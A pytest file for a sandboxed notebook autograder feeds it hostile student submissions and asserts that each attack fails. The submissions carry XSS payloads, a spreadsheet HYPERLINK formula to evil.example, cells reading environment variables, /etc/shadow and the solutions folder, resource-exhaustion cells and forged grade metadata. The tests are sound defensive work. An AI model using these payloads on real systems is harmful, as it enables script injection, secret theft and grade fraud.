"""One class run where the grader is the security boundary (issue 27): honest learners graded next to learners who
read the grader's environment and files, put script into their feedback or formulas into the CSVs, exceed the
sandbox's whole-sandbox caps, send files that are not notebooks, or change the nbgrader metadata. Each attack ends
in its safe outcome and the honest learners keep their grades.

The hostile notebooks are built here from the honest ``heads`` fixture (8/20), so each one's expected score is the
honest answers' score.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import pytest
from grading_harness import REPO, Course, copy_fixtures, intake, workflow
from nbconvert import HTMLExporter
from test_grading_hostile import HEADS_FAILED
from traitlets.config import Config

from stage5.grading.sandbox import isolation

pytestmark = pytest.mark.skipif(isolation()[0] != "bwrap", reason=f"no sandbox here: {isolation()[1]}")

SECRET = "i27b-instructor-token-77c1"
SECRET_NAME = "STAGE5_TEST_INSTRUCTOR_TOKEN"
CPU_S = 5
MIB = 2**20
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def _code(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def _nbg(nb: dict, gid: str) -> dict:
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == gid)
    return cell["metadata"]["nbgrader"]


# ----------------------------------------------------------------------------- what the attackers add to heads
MARK = "PWNED"  # every payload that runs announces itself: console, page title, a global
JS = f"console.log(`{MARK}`); document.title=`{MARK}`; window.top.__pwned = 1"  # no quote the payloads use
SCRIPTS = [
    f"from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML(\"<script>{JS}</script>\"))",
    f"display(HTML('<img src=\"nowhere.png\" onerror=\"{JS}\">'))",
    f"display(Javascript(\"{JS}\"))",
    f"display(HTML('<a id=\"jslink\" href=\"javascript:{JS}\">click me</a>'))",
    f"display(HTML('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{JS}\"><circle r=\"4\"/></svg>'))",
    f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{JS}\"><circle r=\"4\"/></svg>'))",
    f"display(HTML('<iframe srcdoc=\"<script>{JS}</script>\"></iframe><object data=\"javascript:{JS}\"></object>"
    f"<embed src=\"javascript:{JS}\">'))",
]
MARKDOWN = (f"<script>{JS}</script>\n\n<img src=x onerror=\"{JS}\">\n\n"
            f"[click me](javascript:{JS.replace(' ', '')})")
READ_BACK = f"""import os
print(sorted(os.environ.items()))
for path in ('/etc/shadow', {str(REPO / 'solutions')!r}, '/root'):
    try:
        print(path, sorted(os.listdir(path))[:3] if os.path.isdir(path) else open(path).read()[:30])
    except OSError as e:
        print(path, 'closed:', type(e).__name__)
"""
FORMULA = """class KernelDied(Exception):
    pass
raise KernelDied('=HYPERLINK("http://evil.example/?leak","click for marks")')"""
MANY_PROCESSES = """import subprocess
procs = []
try:
    for _ in range(400):
        procs.append(subprocess.Popen(['sleep', '600']))
except OSError as e:
    print('processes refused after', len(procs))
for p in procs:  # give the places back, so the next cell can start processes again
    p.kill()
    p.wait()
"""
BIG_TMP = """import os
written = 0
try:
    for i in range(12):
        with open(f'/tmp/fill{i}', 'wb') as fh:
            fh.write(b'x' * 2**26)
        written += 2**26
except OSError as e:
    print('tmp full after', written // 2**20, 'MiB')
"""
MEMORY = """import subprocess, sys, time
hold = "import time; s = 'x' * (400 * 2**20); time.sleep(600)"
procs = [subprocess.Popen([sys.executable, '-c', hold]) for _ in range(3)]
time.sleep(60)
print('three processes', 'survived')
"""


def _tampered_mixed(heads: dict) -> dict:
    """Six kinds of metadata tampering at once."""
    nb = copy.deepcopy(heads)
    cells = nb["cells"]
    bonus = copy.deepcopy(next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "a1_floor"))
    bonus["metadata"]["nbgrader"].update(grade_id="bonus_marks", points=50)
    bonus["source"] = "pass"
    _nbg(nb, "a3_kv_answer")["locked"] = True  # a locked answer cell
    _nbg(nb, "a1_floor")["solution"] = True  # `solution` on a test cell
    _nbg(nb, "a2_ridge")["grade"] = False  # a test cell that no longer counts
    _nbg(nb, "a4_budget_answer")["grade_id"] = "my_answer"  # an answer cell renamed
    dup = copy.deepcopy(next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "a6_intensity"))
    dup["source"] = "pass"  # a duplicate grade_id: a second a6_intensity that passes trivially
    cells.insert(3, dup)
    cells.insert(8, bonus)  # a new grade cell worth 50
    return nb


def _stripped(heads: dict) -> dict:
    nb = copy.deepcopy(heads)
    for c in nb["cells"]:
        c["metadata"].pop("nbgrader", None)
    return nb


def _with_cells(heads: dict, *extra: dict) -> dict:
    nb = copy.deepcopy(heads)
    nb["cells"] += list(extra)
    return nb


EXPECTED = {  # student: (score, failed checks, words its summary line must contain)
    "heads": (8, HEADS_FAILED, []),
    "ada_lovelace_123": (20, set(), []),
    "tamper_mixed": (8, HEADS_FAILED, [workflow.RESTORED]),
    "tamper_stripped": (8, HEADS_FAILED, [workflow.RESTORED]),
    "scripts": (8, HEADS_FAILED, []),
    "formula": (8, HEADS_FAILED, []),
    "caps": (8, HEADS_FAILED, ["over the sandbox's"]),
}
INVALID = {  # student: words of its one line
    "bad_cells": "cell 1 is not an object",
    "big": "over the limit",
    "old_format": "nbformat",
    "not_json": "not a valid notebook",
    "deep": "not a valid notebook (RecursionError)",  # deeper than any parser's recursion
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("boundary")
    inbox = copy_fixtures("ex01", root / "inbox", ["heads_ex01.ipynb", "ada lovelace_123_ex01.ipynb"])
    heads = json.loads((inbox / "heads_ex01.ipynb").read_text())
    write = {
        "tamper_mixed": _tampered_mixed(heads),
        "tamper_stripped": _stripped(heads),
        "scripts": _with_cells(heads, *map(_code, SCRIPTS),
                               {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN}),
        "formula": _with_cells(heads, _code(FORMULA)),
        "caps": _with_cells(heads, _code(READ_BACK), _code(MANY_PROCESSES), _code(BIG_TMP), _code(MEMORY),
                            _code("print('after the caps')")),
        "bad_cells": {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, "x", None]},
        "old_format": {**heads, "nbformat": 3},
    }
    for name, nb in write.items():
        # "formula" hands in a file whose name starts like a spreadsheet formula: it reaches summary.csv's source
        (inbox / f"{'=' if name == 'formula' else ''}{name}_ex01.ipynb").write_text(json.dumps(nb))
    (inbox / "not_json_ex01.ipynb").write_text('{"cells": [')
    (inbox / "deep_ex01.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
    (inbox / "big_ex01.ipynb").write_text(json.dumps({**heads, "metadata": {"pad": "x" * (3 * MIB)}}))
    patch = pytest.MonkeyPatch()
    patch.setenv(SECRET_NAME, SECRET)
    patch.setattr(intake, "MAX_SUBMISSION_BYTES", 2 * MIB)  # "big" is over it; the honest files are ~40 KB
    config = Config()
    config.SandboxedExecute.sandbox_memory_bytes = 1024 * MIB
    config.SandboxedExecute.processes = 64
    config.SandboxedExecute.tmp_bytes = 128 * MIB
    course = Course(root / "work", cell_timeout_s=CPU_S, config=config)
    try:
        results = {r.student: r for r in course.grade(inbox, "ex01", jobs=2)}
    finally:
        patch.undo()
    return course, results


def test_every_learner_is_graded_or_listed(graded):
    _, results = graded
    assert set(results) == set(EXPECTED) | set(INVALID)


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_honest_answers_keep_their_score_next_to_attacks(graded, student):
    r = graded[1][student]
    score, failed, words = EXPECTED[student]
    assert r.status == "ok" and r.score == score and set(r.failed) == failed, r.line()
    for w in words:
        assert w in r.line(), r.line()
    if student in ("heads", "ada_lovelace_123"):
        assert not r.reasons, r.line()


@pytest.mark.parametrize("student", sorted(INVALID))
def test_an_invalid_file_is_one_line_and_the_class_goes_on(graded, student):
    r = graded[1][student]
    assert r.status == "invalid" and len(r.reasons) == 1, r.line()
    assert r.reasons[0].startswith("invalid submission: ") and INVALID[student] in r.reasons[0], r.line()
    assert "\n" not in r.reasons[0]


def test_tampered_metadata_is_graded_on_the_release_cells(graded):
    course, _ = graded
    nb = json.loads((course.work / "autograded" / "tamper_mixed" / "ex01" / "ex01.ipynb").read_text())
    ids = [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"] if c["metadata"].get("nbgrader")]
    release = json.loads((REPO / "exercises" / "ex01" / "ex01.ipynb").read_text())
    assert ids == [c["metadata"]["nbgrader"]["grade_id"] for c in release["cells"] if c["metadata"].get("nbgrader")]
    assert "bonus_marks" not in json.dumps(nb) or all(
        c["metadata"].get("nbgrader", {}).get("grade_id") != "bonus_marks" for c in nb["cells"])


def test_the_graders_environment_and_files_stay_out_of_feedback_and_results(graded):
    course, results = graded
    text = course.feedback_text("caps", "ex01")
    assert "PATH" in text and "/etc/shadow closed: PermissionError" in text  # the read-back ran, and failed
    assert "solutions" in text and "/root closed" not in text.replace("/root closed: PermissionError", "")
    everything = [text, (course.work / "summary.csv").read_text(), (course.work / "grades.csv").read_text(),
                  (course.work / "autograded" / "caps" / "ex01" / "ex01.ipynb").read_text()]
    for blob in everything:
        assert SECRET not in blob and SECRET_NAME not in blob
    assert "root:" not in text  # /etc/shadow's first field


def test_whole_sandbox_caps_hold(graded):
    course, results = graded
    text = course.feedback_text("caps", "ex01")
    refused = int(text.split("processes refused after ")[1].split()[0])
    assert refused < 64
    assert int(text.split("tmp full after ")[1].split()[0]) <= 128
    assert "three processes survived" not in text and "over the sandbox's" in text
    assert "after the caps" in text  # the cell after the one that was killed still ran


def test_csv_cells_never_start_like_a_formula(graded):
    course, results = graded
    # learner text that starts like a formula reaches the CSV (the file name, as source), neutralised; the forged
    # exception's text does not reach the reasons at all (the grader reads its own record of what went wrong)
    assert results["formula"].source.startswith("=")
    assert "HYPERLINK" not in results["formula"].line()
    with (course.work / "summary.csv").open(newline="") as fh:
        assert any(cell.startswith("'=formula") for row in csv.reader(fh) for cell in row)
    for name in ("summary.csv", "grades.csv"):
        with (course.work / name).open(newline="") as fh:
            rows = list(csv.reader(fh))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or workflow._NUMBER.fullmatch(cell), (name, cell)


# ----------------------------------------------------------------------------- in a real browser
def _learner_script_ran(html_file: Path, tmp_path: Path, offline: dict | None = None) -> list[str]:
    """Open ``html_file`` in Chromium, click its links, and return every sign that a learner's script ran. Into
    ``offline``, when given: every request that left the machine ("outside") and whether MathJax loaded."""
    if not CHROMIUM.exists():
        pytest.skip(f"no system Chromium at {CHROMIUM}; browser checks skipped")
    from playwright.sync_api import sync_playwright

    signs: list[str] = []
    with sync_playwright() as p:
        ctx = p.chromium.launch_persistent_context(str(tmp_path / "profile"), executable_path=str(CHROMIUM),
                                                   args=CHROMIUM_FLAGS, headless=True)
        ctx.route("http*://**", lambda route: route.abort())  # offline: CDN scripts are not the learner's
        page = ctx.new_page()
        outside: list[str] = []
        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("file:", "data:", "blob:"))
                else None)
        page.on("console", lambda m: signs.append(f"console: {m.text}") if MARK in m.text else None)
        page.on("dialog", lambda d: (signs.append("dialog"), d.dismiss()))
        page.goto(html_file.as_uri())
        page.wait_for_timeout(1500)
        for link in page.query_selector_all("a"):
            if "click me" in (link.inner_text() or ""):
                try:
                    link.click(timeout=2000)
                except Exception:  # noqa: BLE001 - a link that cannot be clicked runs nothing either
                    pass
        page.wait_for_timeout(500)
        if page.title() == MARK:
            signs.append("title")
        if page.evaluate("() => window.__pwned === 1"):
            signs.append("global")
        if offline is not None:
            offline["outside"] = outside
            offline["mathjax"] = page.evaluate("() => typeof (window.MathJax || {}).typesetPromise === 'function'")
        ctx.close()
    return signs


def test_no_learner_script_runs_in_a_feedback_page(graded, tmp_path):
    course, _ = graded
    autograded = course.work / "autograded" / "scripts" / "ex01" / "ex01.ipynb"
    # the payloads are live in a page made without the sanitizer: the detector sees them
    unsafe = tmp_path / "unsanitized.html"
    unsafe.write_text(HTMLExporter().from_filename(str(autograded))[0])
    assert _learner_script_ran(unsafe, tmp_path / "a"), "the detector missed live script: the test proves nothing"
    feedback = course.work / "feedback" / "scripts" / "ex01" / "ex01.html"
    offline: dict = {}
    assert _learner_script_ran(feedback, tmp_path / "b", offline) == []
    # and the page needs no network: its maths is typeset by the course's own MathJax, inlined
    assert offline == {"outside": [], "mathjax": True}, offline


def test_long_feedback_lines_wrap(graded, tmp_path):
    if not CHROMIUM.exists():
        pytest.skip(f"no system Chromium at {CHROMIUM}; browser checks skipped")
    from playwright.sync_api import sync_playwright

    course, _ = graded
    feedback = course.work / "feedback" / "heads" / "ex01" / "ex01.html"
    with sync_playwright() as p:
        ctx = p.chromium.launch_persistent_context(str(tmp_path / "profile"), executable_path=str(CHROMIUM),
                                                   args=CHROMIUM_FLAGS, headless=True,
                                                   viewport={"width": 900, "height": 800})
        ctx.route("http*://**", lambda route: route.abort())
        page = ctx.new_page()
        page.goto(feedback.as_uri())
        wide = page.evaluate("""() => [...document.querySelectorAll('pre')]
            .filter(e => e.scrollWidth > e.clientWidth + 2).map(e => e.textContent.slice(0, 80))""")
        hints = page.evaluate("() => [...document.querySelectorAll('pre')].length")
        ctx.close()
    assert hints > 0 and wide == [], wide


def test_no_learner_script_runs_in_formgraders_view(graded, tmp_path):
    """Formgrader renders an autograded notebook with its own template ('formgrade') through an HTMLExporter built
    from the course's config (nbgrader's FormgradeExtension): the same sanitizing settings must hold there."""
    import sys

    from nbgrader.server_extensions.formgrader import handlers

    sys.path.insert(0, str(REPO / "grader"))
    from nbgrader_setup import make_config

    course, _ = graded
    config = make_config(course.work)
    config.HTMLExporter.template_name = "formgrade"  # what FormgradeExtension.build_extra_config adds
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    autograded = course.work / "autograded" / "scripts" / "ex01" / "ex01.ipynb"
    resources = {"assignment_id": "ex01", "notebook_id": "ex01", "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": "scripts", "last_name": "scripts", "first_name": "",
                 "notebook_path": "autograded/scripts/ex01/ex01.ipynb"}
    page = tmp_path / "formgrade.html"
    page.write_text(HTMLExporter(config=config).from_filename(str(autograded), resources=resources)[0])
    assert "click me" in page.read_text()  # the learner's cells are on the page
    offline: dict = {}
    assert _learner_script_ran(page, tmp_path / "fg", offline) == []
    assert offline == {"outside": [], "mathjax": True}, offline  # MathJax is the course's copy, not a CDN's
